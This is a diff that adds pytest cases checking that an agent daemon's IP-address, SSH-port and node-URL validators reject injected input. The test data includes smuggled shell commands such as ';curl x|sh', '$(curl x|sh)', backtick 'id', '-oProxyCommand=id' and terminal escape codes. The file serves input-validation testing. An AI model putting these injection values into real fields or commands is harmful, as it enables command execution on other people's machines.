@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 from aiohttp import web
 
+from aleph_agentd.adapters.aleph.checked import address, node_url
 from aleph_agentd.adapters.aleph.executions import find_execution
 from aleph_agentd.adapters.aleph.http import MAX_BODY_BYTES
 from aleph_agentd.adapters.aleph.network import Network, open_network
@@ -319,3 +320,68 @@ async def test_ssh_is_asked_only_at_sound_addresses(network: Network, key_path: 
         open_network(settings) as public,
     ):
         assert await public.hosts.ssh_answers("127.0.0.1", port) is False
+
+
+_EVIL = ";curl x|sh"
+
+
+@pytest.mark.parametrize("allow_local", [True, False])
+@pytest.mark.parametrize(
+    "said",
+    [
+        *(
+            f"{sound}{evil}"
+            for sound in ("1.2.3.4", "2a01:4f8::1")
+            for evil in (_EVIL, "\n", " ", "\x1b[2J", "/24")
+        ),
+        *(f"2a01:4f8::1%{scope}" for scope in (_EVIL, "$(curl x|sh)", "eth0", "\n")),
+        "::ffff:1.2.3.4%`id`",
+        "0x7f.1",
+        "1.2.3",
+        "-oProxyCommand=id",
+        "",
+        None,
+        16909060,
+        ["1.2.3.4"],
+    ],
+)
+def test_what_is_no_address_is_none(said: Any, allow_local: bool) -> None:
+    """Python takes any text behind a % for the scope of an IPv6 address, and gives it back."""
+    assert [address(said, version, allow_local) for version in (4, 6)] == ["", ""]
+
+
+@pytest.mark.parametrize(
+    "port", [0, -1, 65_536, 70_000, 22.0, 22.5, "22", f"22{_EVIL}", True, None, {"a": 1}, [22]]
+)
+def test_what_is_no_port_is_none(port: Any) -> None:
+    """Then there is no command that logs in."""
+    said = {HASH: {"networking": NET | {"mapped_ports": {"22": {"host": port}}}}}
+    found = find_execution(said, HASH, allow_local=False)
+    assert found is not None and found.ssh_port == 0
+
+
+@pytest.mark.parametrize("allow_local", [True, False])
+@pytest.mark.parametrize("scheme", ["http", "https"])
+@pytest.mark.parametrize(
+    "rest",
+    [
+        f"crn.example.org/{_EVIL}",
+        f"crn.example.org{_EVIL}",
+        f"crn.example.org:22{_EVIL}",
+        "crn.example.org:70000",
+        "$(curl).example.org",
+        "`id`@crn.example.org",
+        "crn.example.org\ncurl",
+        "crn.example.org\x1b[2J",
+        f"[2a01:4f8::1%{_EVIL}]",
+        f"[2a01:4f8::1%25{_EVIL}]:80",
+        "[2a01:4f8::1]:22;id",
+        "crn.example.org?`id`",
+        "crn.example.org#;id",
+        "-oProxyCommand=id",
+    ],
+)
+def test_what_is_more_than_a_url_of_a_host_is_none(scheme: str, rest: str, allow_local: bool) -> None:
+    """Whoever pastes it into a shell runs nothing."""
+    with pytest.raises(ValueError, match=r".+"):
+        node_url(f"{scheme}://{rest}", allow_local)
